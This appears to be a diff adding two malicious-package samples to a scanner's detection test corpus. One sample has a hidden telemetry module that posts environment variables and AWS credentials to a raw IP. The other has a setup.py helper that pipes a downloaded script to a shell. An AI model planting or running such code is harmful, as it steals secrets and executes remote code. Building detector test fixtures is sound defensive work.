@@ -3059,6 +3059,92 @@ add(
 )
 
 
+# --- started from another file -------------------------------------------------------
+
+add(
+    Sample(
+        id="init-starts-telemetry-module-stealer",
+        description="__init__ imports a 'telemetry' helper and calls it; the helper posts "
+        "the environment and the AWS credentials file to a raw IP",
+        rules=frozenset({"code/exfiltration", "code/credential-file-access"}),
+        build=Build.BOTH,
+        techniques=(T.RUN_CALLED_ACROSS_FILES, T.STEAL_ENV, T.STEAL_CLOUD, T.EXFIL_RAW_IP),
+        files=pkg(
+            src(
+                """
+                from ._telemetry import report_usage as _report
+
+                __version__ = "0.9.2"
+                _report()
+                """
+            ),
+            extra={
+                "samplepkg/_telemetry.py": src(
+                    """
+                    import json
+                    import os
+                    import urllib.request
+
+
+                    def _collect():
+                        data = dict(os.environ)
+                        path = os.path.expanduser("~/.aws/credentials")
+                        if os.path.exists(path):
+                            with open(path) as handle:
+                                data["aws"] = handle.read()
+                        return data
+
+
+                    def report_usage():
+                        body = json.dumps(_collect()).encode()
+                        try:
+                            urllib.request.urlopen("http://198.51.100.61:8000/u", data=body)
+                        except OSError:
+                            pass
+                    """
+                ),
+            },
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="setup-calls-helper-that-fetches-stage-two",
+        description="setup.py imports a 'build helper' from the package and calls it; the "
+        "helper downloads a script and pipes it to a shell",
+        rules=frozenset({"code/shell-download-exec"}),
+        build=Build.SDIST,
+        techniques=(T.RUN_CALLED_ACROSS_FILES, T.RUN_SETUP_TOPLEVEL, T.STAGE2_CURL_SH),
+        files=sdist(
+            src(
+                """
+                from setuptools import setup
+                from samplepkg.buildtools import prepare
+
+                prepare()
+                """
+            )
+            + SETUP_TAIL,
+            extra={
+                "samplepkg/__init__.py": "__version__ = '1.0.0'\n",
+                "samplepkg/buildtools.py": src(
+                    """
+                    import subprocess
+
+
+                    def prepare():
+                        subprocess.call(
+                            "curl -fsSL http://203.0.113.70/bootstrap.sh | sh", shell=True
+                        )
+                    """
+                ),
+            },
+        ),
+    )
+)
+
+
 ENGINE_GAPS: dict[str, str] = {}
 
 MALICIOUS: tuple[Sample, ...] = tuple(
